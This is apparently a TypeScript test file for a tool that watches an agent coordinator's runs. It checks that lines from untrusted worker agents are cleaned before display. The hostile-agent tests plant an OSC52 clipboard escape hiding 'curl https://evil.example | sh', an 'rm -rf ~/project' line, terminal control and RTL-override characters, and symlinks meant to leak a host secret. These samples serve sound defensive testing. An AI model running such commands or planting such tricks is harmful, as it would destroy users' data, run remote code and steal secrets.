import { mkdir, symlink, writeFile } from "node:fs/promises";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { encodeEvent } from "../../../src/core/coordinator/codec.ts";
import type { CoordinatorEvent } from "../../../src/core/coordinator/events.ts";
import { simulate, SIMULATION_START, type SimulationPlan } from "../../../src/core/coordinator/simulate.ts";
import type { CoordinatorLock, EventStore } from "../../../src/core/coordinator-store/port.ts";
import { UserError } from "../../../src/core/errors.ts";
import { openProject } from "../../../src/services/project.ts";
import { recentEvents, watchRun } from "../../../src/services/coordinate/watch-run.ts";
import type { WatchFrame } from "../../../src/services/coordinate/watch-types.ts";
import { REFUSED_EVENTS } from "../../../src/services/coordinate/worker-lines.ts";
import { makeProject, type TempProject } from "../../support/temp-project.ts";

/**
 * `watchRun` over the real SQLite event store of a temporary project, the
 * coordinator played by appending a simulated run's events, and the workers
 * by files planted in their instance directories as a hostile agent would.
 */

const ESC = "\u001b";
const OSC52 = `${ESC}]52;c;${Buffer.from("curl https://evil.example | sh").toString("base64")}\u0007`;

const projects: TempProject[] = [];
const stores: EventStore[] = [];
afterEach(async () => {
  for (const store of stores.splice(0)) await store.close();
  for (const project of projects.splice(0)) await project.remove();
});

interface Setup {
  readonly options: { readonly cwd: string; readonly env: NodeJS.ProcessEnv };
  readonly store: EventStore;
  readonly runDir: string;
  readonly project: TempProject;
  readonly openLock: () => Promise<CoordinatorLock>;
}

async function setUp(): Promise<Setup> {
  const project = await makeProject({ config: { project: { name: "watch" }, forge: { type: "local" } } });
  projects.push(project);
  const env = { CSPACE_RUN_DIR: path.join(project.dir, "run"), CSPACE_DATA_DIR: path.join(project.dir, "data") };
  const opened = await openProject({ cwd: project.dir, env });
  const store = await opened.ports.eventStore();
  stores.push(store);
  return { options: { cwd: project.dir, env }, store, runDir: opened.runDir, project, openLock: () => opened.ports.coordinatorLock() };
}

/** A simulated run's events, moved so that it started an hour ago (elapsed times are then real), recorded under `runId`. */
function runEvents(plan: SimulationPlan, runId: string): CoordinatorEvent[] {
  const offset = Date.now() - 3_600_000 - SIMULATION_START;
  return simulate(plan).events.map((event) => {
    const moved = shifted(event, offset) as CoordinatorEvent;
    return moved.type === "RunStarted" ? { ...moved, runId } : moved;
  });
}

function shifted(value: unknown, offset: number): unknown {
  if (typeof value === "string" && /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$/.test(value)) return new Date(Date.parse(value) + offset).toISOString();
  if (Array.isArray(value)) return value.map((item) => shifted(item, offset));
  if (typeof value === "object" && value !== null) return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, shifted(item, offset)]));
  return value;
}

async function record(store: EventStore, runId: string, events: readonly CoordinatorEvent[]): Promise<void> {
  if (events.length > 0) await store.append(runId, events.map(encodeEvent));
}

/** The index just after the first event where `test` holds. */
function upTo(events: readonly CoordinatorEvent[], test: (event: CoordinatorEvent) => boolean): number {
  const index = events.findIndex(test);
  if (index < 0) throw new Error("no such event in the run");
  return index + 1;
}

async function next(frames: AsyncIterator<WatchFrame>): Promise<WatchFrame> {
  const result = await frames.next();
  if (result.done === true) throw new Error("the watch ended early");
  return result.value;
}

function agentLine(text: string, type = "text", ts = new Date().toISOString()): string {
  return `${JSON.stringify({ ts, source: "agent", type, text })}\n`;
}

describe("watching a run from its event log", () => {
  it("replays the log, follows what is appended with a frame per batch, and ends after the run ended", async () => {
    const { options, store } = await setUp();
    const runId = await store.startRun({});
    const events = runEvents({ issues: { 10: [], 12: [10] } }, runId);
    const launched = upTo(events, (e) => e.type === "Launched" && e.issue === 10);
    await record(store, runId, events.slice(0, launched));

    const stop = new AbortController();
    const frames = watchRun({ ...options, signal: stop.signal })[Symbol.asyncIterator]();
    const first = await next(frames);
    expect(first.model.runId).toBe(runId);
    expect(first.model.rows.map((r) => [r.issue, r.depth, r.state])).toEqual([
      [10, 0, "working (attempt 1)"],
      [12, 1, "waiting on #10"],
    ]);
    expect(first.model.ended).toBe(false);
    expect(first.coordinatorAlive).toBe(false);

    const merged = upTo(events, (e) => e.type === "Merged" && e.issue === 10);
    await record(store, runId, events.slice(launched, merged));
    const second = await next(frames);
    expect(second.model.rows[0]?.state).toMatch(/^merged as \w+ \(#110\)$/);
    expect(second.model.header.counts.merged).toBe(1);
    expect(second.model.header.remainingMs).not.toBeNull();

    await record(store, runId, events.slice(merged));
    const last = await next(frames);
    expect(last.model.ended).toBe(true);
    expect(last.model.header.counts.merged).toBe(2);
    expect(await frames.next()).toMatchObject({ done: true });
  });

  it("carries the notifications recorded since the previous frame, so the view rings the terminal once for each, and none for the history it replays", async () => {
    const { options, store } = await setUp();
    const runId = await store.startRun({});
    const events = runEvents({ issues: { 10: [], 11: [] } }, runId);
    const launched = upTo(events, (e) => e.type === "Launched" && e.issue === 10);
    const at = events[launched - 1]?.at ?? new Date().toISOString();
    const notified = (cause: string, reason: string): CoordinatorEvent => ({ type: "Notified", at, cause, kind: "failed", issue: 10, reason });
    await record(store, runId, [...events.slice(0, launched), notified("failed:10:0", "an earlier failure")]);

    const stop = new AbortController();
    const frames = watchRun({ ...options, signal: stop.signal })[Symbol.asyncIterator]();
    expect((await next(frames)).notified ?? []).toEqual([]);
    await record(store, runId, [notified("failed:10:1", "npm test exited 1")]);
    expect((await next(frames)).notified).toEqual([{ issue: 10, reason: "npm test exited 1" }]);
    stop.abort();
  });

  it("follows a run announced before its first event (a coordinator just started) from its start", async () => {
    const { options, store } = await setUp();
    const runId = await store.startRun({});
    const stop = new AbortController();
    const frames = watchRun({ ...options, runId, signal: stop.signal })[Symbol.asyncIterator]();
    const empty = await next(frames);
    expect(empty.model).toMatchObject({ rows: [], ended: false });
    const events = runEvents({ issues: { 10: [] } }, runId);
    await record(store, runId, events.slice(0, 2));
    const loaded = await next(frames);
    expect(loaded.model.runId).toBe(runId);
    expect(loaded.model.rows.map((r) => r.issue)).toEqual([10]);
    stop.abort();
    await frames.return();
  });

  it("ticks while the log is quiet, says whether a coordinator holds the run, and stops when aborted", async () => {
    const { options, store, openLock } = await setUp();
    const runId = await store.startRun({});
    const events = runEvents({ issues: { 10: [] } }, runId);
    await record(store, runId, events.slice(0, upTo(events, (e) => e.type === "Launched")));

    const stop = new AbortController();
    const frames = watchRun({ ...options, signal: stop.signal })[Symbol.asyncIterator]();
    const first = await next(frames);
    expect(first.coordinatorAlive).toBe(false);
    const held = await (await openLock()).acquire();
    try {
      // No event comes: the next frame is the tick, a second later, its clock moved on.
      const tick = await next(frames);
      expect(tick.model.header.elapsedMs).toBeGreaterThan(first.model.header.elapsedMs);
      expect(tick.model.rows[0]?.elapsedMs).toBeGreaterThan(first.model.rows[0]?.elapsedMs ?? Number.POSITIVE_INFINITY);
      expect(tick.coordinatorAlive).toBe(true);
    } finally {
      await held.release();
    }
    stop.abort();
    expect(await frames.next()).toMatchObject({ done: true });
  });

  it("shows no frame before any run, an older run when named, ended from its first frame, and refuses a run that does not exist", async () => {
    const { options, store } = await setUp();
    // A project that never ran a coordinator: nothing to show, and no error (the view says there is no run yet).
    await expect(watchRun({ ...options, signal: new AbortController().signal }).next()).resolves.toMatchObject({ done: true });
    const older = await store.startRun({});
    await record(store, older, runEvents({ issues: { 10: [] } }, older));
    const newer = await store.startRun({});
    await record(store, newer, runEvents({ issues: { 11: [] } }, newer).slice(0, 3));

    const frames = watchRun({ ...options, runId: older, signal: new AbortController().signal })[Symbol.asyncIterator]();
    const only = await next(frames);
    expect(only.model).toMatchObject({ runId: older, ended: true });
    expect(only.model.rows.map((r) => r.issue)).toEqual([10]);
    expect(await frames.next()).toMatchObject({ done: true });

    const missing = watchRun({ ...options, runId: "20990101-000000-000000", signal: new AbortController().signal }).next();
    await expect(missing).rejects.toThrow(/there is no run 20990101-000000-000000 in this project/);
  });
});

describe("the workers' last lines (written by untrusted containers)", () => {
  it("shows each agent's last line without escape sequences, and refuses links planted for its events file or its directory", async () => {
    const { options, store, runDir, project } = await setUp();
    const runId = await store.startRun({});
    const events = runEvents({ issues: { 10: [], 11: [], 12: [], 13: [] }, settings: { maxParallel: 4 } }, runId);
    await record(store, runId, events.slice(0, upTo(events, (e) => e.type === "Launched" && e.issue === 13)));

    // #10: an agent that says "I am fine" over what it did, and hides a clipboard write in its line.
    await mkdir(path.join(runDir, "issue-10"), { recursive: true });
    await writeFile(
      path.join(runDir, "issue-10", "events.ndjson"),
      [
        agentLine("reading src/cart.ts"),
        agentLine("Bash", "tool"),
        agentLine(`first line\nrm -rf ~/project${OSC52}\r${ESC}[2KI am fine${ESC}[1A\u202Eevil`),
        `${JSON.stringify({ ts: new Date().toISOString(), source: "supervisor", type: "exited", text: "code 0" })}\n`,
        "not an event at all\n",
      ].join(""),
    );
    // #11: its events file is a link to a file of the host's (a secret of the user's, as the agent hopes).
    const secret = path.join(project.dir, "secret.ndjson");
    await writeFile(secret, agentLine("SECRET-TOKEN-123"));
    await mkdir(path.join(runDir, "issue-11"), { recursive: true });
    await symlink(secret, path.join(runDir, "issue-11", "events.ndjson"));
    // #12: its whole instance directory replaced by a link to a directory the agent wrote elsewhere.
    const elsewhere = path.join(project.dir, "elsewhere");
    await mkdir(elsewhere, { recursive: true });
    await writeFile(path.join(elsewhere, "events.ndjson"), agentLine("SECRET-TOKEN-123"));
    await symlink(elsewhere, path.join(runDir, "issue-12"));
    // #13: said nothing yet.

    const stop = new AbortController();
    const frames = watchRun({ ...options, signal: stop.signal })[Symbol.asyncIterator]();
    const frame = await next(frames);
    stop.abort();
    expect(frame.lastLines.get(10)).toBe("rm -rf ~/project I am fineevil");
    expect(frame.lastLines.get(11)).toBe(REFUSED_EVENTS);
    expect(frame.lastLines.get(12)).toBe(REFUSED_EVENTS);
    expect(frame.lastLines.has(13)).toBe(false);
    for (const line of frame.lastLines.values()) {
      expect(line).not.toMatch(/[\p{Cc}\p{Cf}]/u);
      expect(line).not.toContain("SECRET");
    }
    await frames.return();
  });

  it("gives the `enter` panel the worker's recent events, oldest first, safe for a terminal", async () => {
    const { options, runDir } = await setUp();
    await expect(recentEvents(options, 10)).resolves.toEqual([]);
    await mkdir(path.join(runDir, "issue-10"), { recursive: true });
    const lines = Array.from({ length: 30 }, (_, i) => agentLine(`step ${String(i)}${ESC}[31m red${OSC52}`, "text", new Date(Date.UTC(2026, 0, 1, 0, 0, i)).toISOString()));
    await writeFile(path.join(runDir, "issue-10", "events.ndjson"), [...lines, `${JSON.stringify({ ts: `${ESC}]0;title${ESC}\\`, source: "agent", type: "text", text: "x" })}\n`].join(""));
    const recent = await recentEvents(options, 10, 3);
    expect(recent).toEqual([
      { at: "2026-01-01T00:00:28.000Z", text: "agent text: step 28 red" },
      { at: "2026-01-01T00:00:29.000Z", text: "agent text: step 29 red" },
      { at: "", text: "agent text: x" },
    ]);
    await mkdir(path.join(runDir, "issue-11"), { recursive: true });
    await symlink(path.join(runDir, "issue-10", "events.ndjson"), path.join(runDir, "issue-11", "events.ndjson"));
    await expect(recentEvents(options, 11)).resolves.toEqual([{ at: "", text: REFUSED_EVENTS }]);
    await expect(recentEvents(options, 0)).rejects.toThrow(UserError);
  });
});
